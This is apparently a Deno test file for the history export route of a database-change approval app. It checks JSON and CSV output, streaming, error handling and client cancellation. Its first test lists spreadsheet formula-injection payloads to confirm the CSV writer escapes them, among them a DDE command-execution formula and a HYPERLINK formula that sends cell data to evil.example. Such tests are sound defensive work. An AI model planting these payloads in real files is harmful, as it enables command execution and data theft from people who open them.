/** The history as a file: whole, in order, read as it is sent, and never looking whole when it is not. */
import assert from "node:assert/strict";
import { App } from "fresh";
import { csvCell, csvLine } from "@/agent/history/csv.ts";
import type { HistoryEntry, QueueEntry } from "@/agent/history/shape.ts";
import { reject } from "@/agent/queue/decide.ts";
import { observe } from "@/agent/queue/propose.ts";
import { type Body, insertAction } from "@/agent/queue/store.ts";
import { sqlOf } from "@/agent/queue/summary.ts";
import { useSettings } from "@/agent/settings.ts";
import type { ActionState, ActionSummary } from "@/agent/types.ts";
import { ensureMain } from "@/agent/workspaces.ts";
import type { State } from "@/routes/(_web)/define.ts";
import { guard } from "@/routes/(_web)/guard.ts";
import { handler } from "@/routes/api/workspaces/[workspace]/export.ts";
import { makeChain, makeSigner, startChain, uidOf } from "./chain.ts";
import { localSettings, withStore } from "./store.ts";

const OWNER = { id: "owner", name: "Owner", via: "person" as const };
const ana = await makeSigner("Ana");

Deno.test("cells that a spreadsheet would take for a formula become text, and nothing breaks out of a cell", () => {
  const cells: [string, string][] = [
    ["plain words", "plain words"],
    ["2026-03-01T09:00:00.000Z", "2026-03-01T09:00:00.000Z"],
    ["", ""],
    ["a,b", '"a,b"'],
    // Where lists are separated by semicolons, this begins a cell of its own, quotes or not.
    ["a;=1+1;", `"a;'=1+1;"`],
    ["Tidy up;=cmd|' /C calc'!A0;", `"Tidy up;'=cmd|' /C calc'!A0;"`],
    ['a;"=1+1', `"a;'""=1+1"`],
    ["a\n@SUM(A1)", `"a\n'@SUM(A1)"`],
    ["a;b; c = d", '"a;b; c = d"'],
    ['say "no"', '"say ""no"""'],
    ["two\r\nlines", '"two\r\nlines"'],
    [" =1+1", '" =1+1"'],
    ["=1+1", `"'=1+1"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"here")', `"'=HYPERLINK(""http://evil.example/?""&A1,""here"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["-- a comment", `"'-- a comment"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t'=1"`],
    ["\r=1", `"'\r'=1"`],
    ["\n=1", `"'\n'=1"`],
    ["\0=1", `"'\0=1"`],
    ["＝1+1", `"'＝1+1"`],
    ["Ünïcödé 🙂", '"Ünïcödé 🙂"'],
  ];
  for (const [text, cell] of cells) assert.equal(csvCell(text), cell);
  assert.equal(csvLine(["a", null, 12, "b c"]), "a,,12,b c\r\n");
});

Deno.test("JSON: the chain with what the queue knows, then what never took effect and the reads, then the keys", async () => {
  await withHistory({ size: 2 }, async ({ get, chain }) => {
    const answer = await get("json");
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get("content-type"), "application/json");
    assert.match(
      answer.headers.get("content-disposition") ?? "",
      /^attachment; filename="gatekeeper-main-\d{4}-\d\d-\d\d\.json"$/,
    );
    assert.equal(answer.headers.get("cache-control"), "no-store");
    const { history, queue, exportedAt, ...head }: {
      history: HistoryEntry[];
      queue: QueueEntry[];
      exportedAt: string;
    } = await answer.json();
    assert.match(exportedAt, /^\d{4}-\d\d-\d\dT[\d:.]+Z$/);
    assert.deepEqual(head, {
      kind: "gatekeeper-history",
      v: 1,
      workspace: { id: "main", name: "Main" },
      database: "main",
      approvers: [ana.approver],
    });
    assert.deepEqual(
      history.map(({ action: _, ...entry }) => entry),
      chain.map(({ action: _, ...entry }) => entry),
    );
    assert.deepEqual(history.map(({ action }) => action?.id ?? null), [1, 2, 1, null, 3]);
    const { title, description, proposedBy, state } = history[0].action ?? {};
    assert.deepEqual({ title, description, proposedBy, state }, {
      title: "=1 Ünïcödé",
      description: LONG,
      proposedBy: OWNER,
      state: "reverted",
    });
    assert.deepEqual(queue.map(({ id, type, state, reason, error }) => [id, type, state, reason, error]), [
      [5, "action", "rejected", "@no", null],
      [6, "observation", "approved", null, null],
      [7, "observation", "failed", null, "No such table."],
    ]);
    assert.deepEqual(queue[0].statements, [{ sql: "UPDATE t SET a = ?", args: [LONG] }]);
    assert.equal(queue[1].rowCount, 8);
  });
});

Deno.test("CSV: a header, then the same, one line each", async () => {
  await withHistory({ size: 2 }, async ({ get, chain }) => {
    const answer = await get("csv");
    assert.equal(answer.headers.get("content-type"), "text/csv; charset=utf-8; header=present");
    const [header, ...lines] = parseCsv(await answer.text());
    const rows = lines.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i]])));
    assert.ok(lines.every((cells) => cells.length === header.length));
    assert.deepEqual(rows.map(({ seq, action, decision }) => `${seq} ${action} ${decision}`), [
      "1 1 approve",
      "2 2 approve",
      "3 1 revert",
      "4  approve",
      "5 3 approve",
      " 5 rejected",
      " 6 read",
      " 7 read",
    ]);
    const [first] = rows;
    assert.deepEqual([first.title, first.description, first.by, first.updated], [
      "'=1 Ünïcödé",
      LONG,
      "Ana",
      "1",
    ]);
    assert.deepEqual([first.at, first.sql, first.arguments], [
      chain[0].at,
      chain[0].statements[0].sql,
      '[["Gold",1]]',
    ]);
    assert.deepEqual([rows[5].reason, rows[5].by, rows[7].error], ["'@no", "Owner", "No such table."]);
  });
});

Deno.test("any other format is refused, and so is an export while the db-service is down", async () => {
  await withHistory({ dies: 0 }, async ({ get }) => {
    for (const format of ["xml", "JSON", ""]) {
      const answer = await get(format);
      assert.deepEqual([answer.status, (await answer.json()).code], [400, "invalid"], format);
    }
    for (const format of ["json", "csv"]) {
      const answer = await get(format);
      assert.deepEqual([answer.status, (await answer.json()).code], [503, "db_unavailable"], format);
      assert.equal(answer.headers.get("content-disposition"), null);
    }
  });
});

Deno.test("a db-service that dies in the middle breaks the download: it never looks whole", async () => {
  for (const format of ["json", "csv"]) {
    await withHistory({ size: 2, dies: 4 }, async ({ get }) => {
      const answer = await get(format);
      assert.equal(answer.status, 200, "it had begun");
      let got = "";
      await assert.rejects(async () => {
        assert.ok(answer.body);
        for await (const text of answer.body.pipeThrough(new TextDecoderStream())) got += text;
      }, TypeError);
      if (format === "json") assert.throws(() => JSON.parse(got), SyntaxError);
    });
  }
});

Deno.test("a client that leaves stops the work", async () => {
  await withHistory({ length: 2_000, size: 10 }, async ({ get, asked }) => {
    const answer = await get("json");
    const reader = answer.body?.getReader();
    assert.ok(reader);
    await reader.read();
    await reader.cancel();
    // Whatever was under way has ended when the next export has.
    await (await get("csv")).text();
    const pages = asked.length - 201;
    assert.ok(pages < 150, `${pages} of 201 pages were read for nobody`);
  });
});

/** More than an entry holds inline. */
const LONG = "long ".repeat(800).trim();
const STEPS = [
  { n: 1, decision: "approve", by: ana },
  { n: 2, decision: "approve", by: ana },
  { n: 1, decision: "revert", by: ana },
  // The queue knows nothing of this one: it came by another app, or the queue was lost.
  { n: 4, decision: "approve", by: ana },
  { n: 3, decision: "approve", by: ana },
] as const;

interface Served {
  get(format: string): Promise<Response>;
  chain: Awaited<ReturnType<typeof makeChain>>;
  /** What the db-service was asked for. */
  asked: number[];
}

/** The route over a store with seven entries, one of which still waits, and a db-service with a chain of five or `length`. */
async function withHistory(
  { length, ...options }: { length?: number; size?: number; dies?: number },
  test: (served: Served) => Promise<void>,
): Promise<void> {
  await withStore(async () => {
    const steps = length === undefined
      ? STEPS
      : Array.from({ length }, (_, i) => ({ n: i + 1, decision: "approve" as const, by: ana }));
    const chain = await makeChain(steps);
    const db = startChain({ entries: chain, signers: [ana], ...options });
    useSettings(localSettings(db.url));
    await ensureMain();
    await fillQueue();
    const app = new App<State>().use(guard).route("/api/workspaces/:workspace/export", { handler });
    const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, app.handler());
    const at = `http://127.0.0.1:${server.addr.port}/api/workspaces/main/export`;
    try {
      await test({ get: (format) => fetch(`${at}?format=${format}`), chain, asked: db.asked });
    } finally {
      await server.shutdown();
      await db.close();
    }
  });
}

async function fillQueue(): Promise<void> {
  await insert("=1 Ünïcödé", "reverted", uidOf(1));
  await insert("Second", "approved", uidOf(2));
  await insert("Third", "approved", uidOf(3));
  await insert("Waits", "pending", uidOf(8));
  await insert("Turned down", "pending", uidOf(9));
  await reject("main", 5, OWNER, "@no");
  const origin = { ws: "main", database: "main", by: OWNER, messageId: null };
  await observe(origin, { sql: "SELECT 1", description: "Read" }, { rowCount: 8, ms: 1 });
  await observe(origin, { sql: "SELECT nope", description: "Read" }, { error: "No such table." });
}

function insert(title: string, state: ActionState, uid: string): Promise<ActionSummary> {
  const statements = [{ sql: "UPDATE t SET a = ?", args: [LONG] }];
  const body: Body = { statements, description: LONG, preview: null, revertSql: LONG.repeat(5) };
  return insertAction("main", (id) => ({
    summary: {
      id,
      uid,
      database: "main",
      type: "action",
      title,
      description: LONG.slice(0, 100),
      sql: sqlOf(statements),
      state,
      canRevert: false,
      createdAt: "2026-03-01T08:00:00.000Z",
      resolvedAt: null,
      expiresAt: null,
      proposedBy: OWNER,
      decidedBy: null,
      messageId: null,
      reason: null,
      error: null,
      maybeStale: false,
      digest: null,
      affected: [],
      affectedTotal: { tables: 0, rows: 0 },
      badges: [],
      rowCount: null,
      ms: null,
    },
    body,
    previewed: null,
  }));
}

/** RFC 4180, strictly: lines end with CRLF, and a quote stands only at a cell's ends or doubled. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  for (
    const { index, 0: whole, 1: quoted, 2: plain, 3: end } of text.matchAll(
      /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
    )
  ) {
    assert.equal(index, at, `broken at ${text.slice(at, at + 40)}`);
    at += whole.length;
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  assert.equal(at, text.length, "it ends with a line");
  return rows;
}
